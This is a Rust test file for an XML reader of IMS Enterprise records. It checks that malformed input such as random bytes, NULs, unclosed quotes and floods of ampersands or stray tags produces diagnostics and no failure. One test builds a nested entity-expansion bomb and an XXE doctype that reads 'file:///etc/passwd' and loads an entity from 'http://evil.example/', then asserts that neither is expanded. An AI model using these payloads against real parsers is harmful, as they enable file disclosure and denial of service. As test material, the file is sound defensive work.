//! Damage that is read on through, however much of it there is: entities, bytes, quotes, markup.

use std::fmt::Write as _;

use edu_diagnostics::Collector;
use edu_syntax::Decoded;
use ims_enterprise::Record;

use crate::input::{
    NO_LIMITS, START, check, check_with, file, in_attribute, in_text, person, read, reader,
};

#[test]
fn entities_are_never_expanded() {
    let mut bomb = String::from("<?xml version='1.0'?><!DOCTYPE enterprise [<!ENTITY e0 'ha'>");
    for level in 1..30 {
        let inner = format!("&e{};", level - 1).repeat(10);
        write!(bomb, "<!ENTITY e{level} '{inner}'>").unwrap();
    }
    bomb += "]>";
    let external = "<!DOCTYPE enterprise SYSTEM 'file:///etc/passwd' [\
        <!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://evil.example/'> %p;]>";
    for (doctype, reference) in [(bomb.as_str(), "&e29;"), (external, "&x;")] {
        let text = format!("{doctype}{}", in_text(reference));
        let (persons, codes, limit) = read(reader(), text.as_bytes());
        assert_eq!((persons, limit), (1, None));
        assert_eq!(codes, [("IE-F01", 1), ("IE-X02", 1)]);
        let decoded = Decoded::from(text.as_str());
        let mut found = Collector::new();
        for record in reader().for_text(&decoded, &mut found) {
            if let Record::Person(person) = record.unwrap() {
                assert_eq!(person.userids[0].text.value(), reference);
            }
        }
    }
}

#[test]
fn bytes_that_are_no_text() {
    let mut seed: u64 = 1;
    let random: Vec<u8> = std::iter::repeat_with(|| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        seed.to_be_bytes()[0]
    })
    .take(200_000)
    .collect();
    for from in [0, 1, 2, 3] {
        let (persons, ..) = read(reader(), &random[from..]);
        assert_eq!(persons, 0);
    }
    check(&[
        ("nothing", Vec::new(), 0, &[("IE-F09", 1)], None),
        ("blanks", b" \r\n\t".repeat(1000), 0, &[("IE-F09", 1)], None),
        ("a text", b"no element".to_vec(), 0, &[("IE-F09", 1), ("IE-S05", 1)], None),
        ("no record", file("").into(), 0, &[("IE-F08", 1)], None),
        ("NULs", vec![0; 10_000], 0, &[("IE-F09", 1), ("IE-S05", 1), ("IE-X11", 1)], None),
        (
            "NULs in a record",
            file(&person(&"\0".repeat(10_000))).into(),
            1,
            &[("IE-S05", 1), ("IE-X11", 1)],
            None,
        ),
        ("NULs in a text", in_text("e\0v\0a").into(), 1, &[("IE-X11", 2)], None),
        ("0xFF", vec![0xFF; 10_000], 0, &[("IE-E01", 1), ("IE-F09", 1), ("IE-S05", 1)], None),
        (
            "not UTF-8",
            in_text("E")
                .replace('E', "\u{1}")
                .into_bytes()
                .iter()
                .map(|&b| if b == 1 { 0xE9 } else { b })
                .collect(),
            1,
            &[("IE-E01", 1)],
            None,
        ),
    ]);
}

#[test]
fn what_is_never_closed() {
    let persons = person("").repeat(2000);
    check(&[
        (
            "a quote in a record",
            file(&format!("<person recstatus=\"1>{persons}")).into(),
            2001,
            &[("IE-R01", 1), ("IE-R04", 1), ("IE-X05", 1), ("IE-X09", 1)],
            None,
        ),
        (
            "a quote in the root",
            format!("<enterprise lang=\"en>{}{persons}</enterprise>", &START[12..]).into(),
            2000,
            &[("IE-S04", 1), ("IE-X09", 1)],
            None,
        ),
        (
            "a comment",
            file(&format!("{}<!-- {persons}", person(""))).into(),
            1,
            &[("IE-F06", 1)],
            None,
        ),
        (
            "a section",
            file(&format!("{}<![CDATA[ {persons}", person(""))).into(),
            1,
            &[("IE-F06", 1)],
            None,
        ),
        (
            "a document type",
            format!("<!DOCTYPE enterprise [ {}", file(&persons)).into(),
            0,
            &[("IE-F06", 1)],
            None,
        ),
    ]);
}

#[test]
fn two_hundred_thousand_ampersands() {
    let persons = person(&format!("<userid>{}</userid>", "& ".repeat(500))).repeat(400);
    check(&[(
        "in many records",
        file(&persons).into(),
        400,
        &[("IE-L01", 400), ("IE-V05", 400), ("IE-X01", 200_000)],
        None,
    )]);
    check_with(
        NO_LIMITS,
        &[(
            "in one text",
            in_text(&"& ".repeat(200_000)).into(),
            1,
            &[("IE-L01", 1), ("IE-V05", 1), ("IE-X01", 200_000)],
            None,
        )],
    );
}

#[test]
fn a_hundred_thousand_stray_end_tags() {
    let tags = "</x>".repeat(100_000);
    let persons = person(&"</x>".repeat(1000)).repeat(100);
    check(&[("in many records", file(&persons).into(), 100, &[("IE-X06", 100_000)], None)]);
    check_with(
        NO_LIMITS,
        &[("in one record", file(&person(&tags)).into(), 1, &[("IE-X06", 100_000)], None)],
    );
}

#[test]
fn a_less_than_is_one_finding() {
    for around in ["<", "<!", "< !", "<1"] {
        let text = file(&format!("{}{around} ", person("")));
        let (_, codes, _) = read(reader(), text.as_bytes());
        assert_eq!(codes, [("IE-S05", 1), ("IE-X04", 1)], "{around}");
    }
}

#[test]
fn nothing_but_the_start_of_markup() {
    const COUNT: u64 = 50_000;
    let repeat = |text: &str| text.repeat(50_000);
    // The last one may be the start of a tag that is cut off.
    let cut: [(&str, u64); 2] = [("IE-F06", 1), ("IE-X04", COUNT - 1)];
    let around = |code| [("IE-F09", 1), ("IE-S05", 1), (code, COUNT)];
    let (less_than, ampersand) = (around("IE-X04"), around("IE-X01"));
    check_with(
        NO_LIMITS,
        &[
            ("<", repeat("<").into(), 0, &cut, None),
            ("< ", repeat("< ").into(), 0, &less_than, None),
            ("&", repeat("& ").into(), 0, &ampersand, None),
            ("<", in_text(&repeat("<")).into(), 1, &[("IE-L01", 1), ("IE-X04", COUNT)], None),
            ("&", in_attribute(&repeat("&")).into(), 1, &[("IE-L01", 1), ("IE-X01", COUNT)], None),
        ],
    );
    check(&[
        ("<a", repeat("<a").into(), 0, &[("IE-X09", 128)], Some("depth")),
        ("<a ", repeat("<a ").into(), 0, &[("IE-X09", 128)], Some("depth")),
        ("<!--", repeat("<!--").into(), 0, &[("IE-F06", 1)], None),
        ("<![CDATA[", repeat("<![CDATA[").into(), 0, &[("IE-F06", 1)], None),
        ("<?", repeat("<?").into(), 0, &[("IE-F06", 1)], None),
        ("<!DOCTYPE [", repeat("<!DOCTYPE [").into(), 0, &[("IE-F06", 1)], None),
    ]);
}
